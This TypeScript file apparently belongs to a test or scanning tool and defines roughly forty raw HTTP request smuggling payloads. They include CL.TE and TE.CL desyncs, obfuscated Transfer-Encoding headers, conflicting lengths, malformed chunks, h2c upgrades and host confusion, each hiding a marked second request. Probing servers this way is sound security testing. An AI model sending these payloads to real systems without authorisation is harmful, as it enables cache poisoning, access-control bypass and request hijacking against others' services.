/** One connection's worth of bytes that may be understood differently by those that pass them on. */
export interface SmugglingCase {
  readonly name: string;
  /** With a word of its own in each path, by which what arrives can be told. */
  readonly bytes: (host: string, word: string) => string;
}

const CRLF = '\r\n';
const head = (line: string, host: string, ...headers: string[]) =>
  [line, `Host: ${host}`, ...headers, '', ''].join(CRLF);
/** What the attacker hopes that somebody behind takes for a request of its own. */
const hidden = (host: string, word: string) => head(`GET /hidden-${word} HTTP/1.1`, host);

/** A POST with these headers, and a body. */
const post =
  (headers: readonly string[], body: (hidden: string) => string): SmugglingCase['bytes'] =>
  (host, word) =>
    head(`POST /case-${word} HTTP/1.1`, host, 'Content-Type: text/plain', ...headers) +
    body(hidden(host, word));
/** A GET with these headers, and what follows it. */
const get =
  (headers: readonly string[], rest: (hidden: string) => string = () => ''): SmugglingCase['bytes'] =>
  (host, word) =>
    head(`GET /case-${word} HTTP/1.1`, host, ...headers) + rest(hidden(host, word));
/** A GET that is changed as a whole. */
const bent =
  (change: (request: string, host: string) => string): SmugglingCase['bytes'] =>
  (host, word) =>
    change(head(`GET /case-${word} HTTP/1.1`, host), host);

const CHUNKED = 'Transfer-Encoding: chunked';
const lastChunk = (rest: string) => `0${CRLF}${CRLF}${rest}`;
const oneChunk = (rest: string) => `${rest.length.toString(16)}${CRLF}${rest}${CRLF}${lastChunk('')}`;

const CASES: Readonly<Record<string, SmugglingCase['bytes']>> = {
  'CL.TE': post(['Content-Length: 80', CHUNKED], lastChunk),
  'TE.CL': post([CHUNKED, 'Content-Length: 4'], oneChunk),
  'TE.TE, the second unknown': post([CHUNKED, 'Transfer-Encoding: cow'], lastChunk),
  'TE.TE, the first unknown': post(['Transfer-Encoding: cow', CHUNKED], lastChunk),
  'chunked under another name': post(['Content-Length: 5', 'Transfer-Encoding: xchunked'], lastChunk),
  'space before the colon': post(['Content-Length: 5', 'Transfer-Encoding : chunked'], lastChunk),
  'tab before the value': post(['Content-Length: 5', 'Transfer-Encoding:\tchunked'], lastChunk),
  'vertical tab before the value': post(['Content-Length: 5', 'Transfer-Encoding: \x0bchunked'], lastChunk),
  'chunked behind a bare LF': post(['Content-Length: 5', 'X: y\nTransfer-Encoding: chunked'], lastChunk),
  'chunked behind a bare CR': post(['Content-Length: 5', 'X: y\rTransfer-Encoding: chunked'], lastChunk),
  'chunked on a folded line': post(['Content-Length: 5', 'Transfer-Encoding:', ' chunked'], lastChunk),
  'header on a folded line': get(['X: a', ' b']),
  'chunked in HTTP/1.0': (host, word) =>
    head(`POST /case-${word} HTTP/1.0`, host, CHUNKED, 'Content-Length: 5') + lastChunk(hidden(host, word)),
  'two lengths': post(['Content-Length: 0', 'Content-Length: 60'], (rest) => rest),
  'the same length twice': post(['Content-Length: 5', 'Content-Length: 5'], () => 'hello'),
  'a list of lengths': post(['Content-Length: 5, 60'], (rest) => `hello${rest}`),
  'length with a plus': post(['Content-Length: +5'], () => 'hello'),
  'negative length': post(['Content-Length: -5'], (rest) => rest),
  'hexadecimal length': post(['Content-Length: 0x5'], () => 'hello'),
  'length beyond all numbers': post(['Content-Length: 18446744073709551617'], () => 'a'),
  'chunk with an extension': post([CHUNKED], () => `5;a=b${CRLF}hello${CRLF}${lastChunk('')}`),
  'LF in a chunk extension': post([CHUNKED], (rest) => `5;a\nhello${CRLF}${lastChunk(rest)}`),
  'chunk size beyond all numbers': post([CHUNKED], (rest) => `ffffffffffffffff5${CRLF}hello${rest}`),
  'chunk without CRLF behind it': post([CHUNKED], (rest) => `5${CRLF}hello0${CRLF}${CRLF}${rest}`),
  '0.CL: GET with a length': get(['Content-Length: 40'], (rest) => rest.slice(0, 40)),
  'GET with a length behind Expect': get(['Expect: 100-continue', 'Content-Length: 40'], (rest) =>
    rest.slice(0, 40),
  ),
  'h2c upgrade': get([
    'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
    'Connection: Upgrade, HTTP2-Settings',
  ]),
  'upgrade to a web socket that is none': get(
    ['Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Version: 777'],
    (rest) => rest,
  ),
  'absolute form with another host': (host, word) =>
    head(`GET http://elsewhere.example/case-${word} HTTP/1.1`, host),
  'absolute form of another scheme': (host, word) => head(`GET gopher://${host}/case-${word} HTTP/1.1`, host),
  'no host': bent((request, host) => request.replace(`Host: ${host}${CRLF}`, '')),
  'two hosts': get(['Host: elsewhere.example']),
  'lines that end with LF alone': bent((request) => request.replaceAll(CRLF, '\n')),
  'space in the path': bent((request) => request.replace('/case-', '/ca se-')),
  'fragment in the path': bent((request) => request.replace(' HTTP/1.1', '#x HTTP/1.1')),
  'NUL in a header': get(['X: a\0b']),
  'header name with a space': get(['X Y: a']),
  'header of 20 kB': get([`X: ${'a'.repeat(20_000)}`]),
  'path of 20 kB': bent((request) => request.replace(' HTTP/1.1', `?${'a'.repeat(20_000)} HTTP/1.1`)),
  'a thousand headers': get(Array.from({ length: 1000 }, (_, i) => `X-${i}: a`)),
  'HTTP/3.7': bent((request) => request.replace('HTTP/1.1', 'HTTP/3.7')),
  'no version': (_host, word) => `GET /case-${word}${CRLF}`,
  'method in small letters': bent((request) => request.replace('GET', 'get')),
  TRACE: bent((request) => request.replace('GET', 'TRACE')),
  'a TLS greeting': () => '\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03',
};

export const SMUGGLING_CASES: readonly SmugglingCase[] = Object.entries(CASES).map(([name, bytes]) => ({
  name,
  bytes,
}));
